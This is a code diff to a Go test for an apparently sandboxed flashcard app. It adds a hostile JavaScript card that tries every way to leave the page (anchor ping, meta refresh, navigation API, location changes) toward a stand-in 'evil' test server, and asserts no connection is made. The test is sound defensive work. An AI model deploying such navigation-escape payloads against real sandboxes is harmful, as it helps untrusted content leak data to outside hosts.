@@ -89,6 +89,18 @@ window.tries = {};
 })();
 </script>`
 
+// leave has a card go to other addresses.
+const leave = `setTimeout(() => {
+	const link = Object.assign(document.createElement("a"), { href: "EVILclicked", textContent: "x", ping: "EVILping" });
+	document.body.append(link);
+	link.click();
+	const meta = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=EVILlater" });
+	document.head.append(meta);
+	navigation.navigate("EVILnavigated").finished.catch(() => {});
+	location.replace("EVILreplaced");
+	location = "EVILself?all=of+it";
+})`
+
 // TestHostileCards: a card from a stranger's deck runs its scripts, but reaches neither the app nor the network, and cannot answer itself.
 func TestHostileCards(t *testing.T) {
 	var hits, requests atomic.Int64
@@ -146,13 +158,13 @@ func TestHostileCards(t *testing.T) {
 	if n := hits.Load(); n != 0 {
 		t.Errorf("cards have made %d connections", n)
 	}
-	// A card that goes elsewhere is stopped, but Chromium has the connection ready by then.
-	apptest.Card[any](t, a, `setTimeout(() => { location = "`+evil.URL+`/self?all=of+it"; })`)
+	// A card that goes elsewhere, in each way there is, is stopped before Chromium connects.
+	apptest.Card[any](t, a, strings.ReplaceAll(leave, "EVIL", evil.URL+"/"))
 	a.Wait(t, `new Promise((r) => setTimeout(r, 2000, true))`)
 	a.Tap(t, "Show answer")
 	a.ReadCard(t, "back")
-	if n := requests.Load(); n != 0 {
-		t.Errorf("cards have made %d requests", n)
+	if hits.Load() != 0 || requests.Load() != 0 {
+		t.Errorf("cards that go elsewhere have made %d connections, %d requests", hits.Load(), requests.Load())
 	}
 
 	// The editor and the list show the same note, in the app's own page.
